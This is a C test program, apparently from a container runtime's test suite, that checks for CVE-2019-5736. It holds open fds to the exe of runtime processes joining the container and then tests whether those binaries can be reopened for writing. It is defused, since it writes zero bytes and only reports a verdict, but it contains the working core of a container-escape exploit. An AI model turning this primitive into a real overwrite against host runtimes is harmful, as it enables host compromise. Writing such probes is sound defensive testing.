/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * CVE-2019-5736 attacker, run as a container process: for SECONDS, grab an
 * fd of /proc/PID/exe of every process in the container that runs a binary
 * other than this one (a runtime joining for `exec`); then, once those
 * processes are gone, try to reopen each binary for writing through
 * /proc/self/fd/N. Nothing is ever written (O_APPEND, zero bytes), so a
 * vulnerable runtime's binary stays intact; "writable" is the verdict.
 * Prints "seen: N" (fds grabbed), "denied: N" (exe links the kernel refused,
 * as for a non-dumpable process) and one "writable: TARGET" per success.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 64

static char self_exe[4096];
static int denied; /* exe links refused: a non-dumpable runtime, protected */

static void grab(int *fds, int *n)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d)) && *n < MAX_FDS) {
		char path[64], target[4096];
		ssize_t len;

		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		len = readlink(path, target, sizeof(target) - 1);
		if (len < 0 && (errno == EACCES || errno == EPERM))
			denied++;
		if (len <= 0)
			continue;
		target[len] = '\0';
		if (strcmp(target, self_exe) == 0 || strstr(target, "busybox") ||
		    strstr(target, "probe"))
			continue;
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			fds[(*n)++] = fd;
	}
	if (d)
		closedir(d);
}

int main(int argc, char **argv)
{
	int fds[MAX_FDS], n = 0, writable = 0;
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	ssize_t len = readlink("/proc/self/exe", self_exe, sizeof(self_exe) - 1);

	self_exe[len > 0 ? len : 0] = '\0';
	while (time(NULL) < end && n < MAX_FDS)
		grab(fds, &n);
	sleep(1); /* let the grabbed processes finish or exec */
	printf("seen: %d\ndenied: %d\n", n, denied);
	for (int i = 0; i < n; i++) {
		char path[64], target[4096];
		ssize_t tl;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		tl = readlink(path, target, sizeof(target) - 1);
		target[tl > 0 ? tl : 0] = '\0';
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			printf("writable: %s\n", target);
			writable++;
			close(w);
		}
	}
	fflush(stdout);
	return writable ? 1 : 0;
}
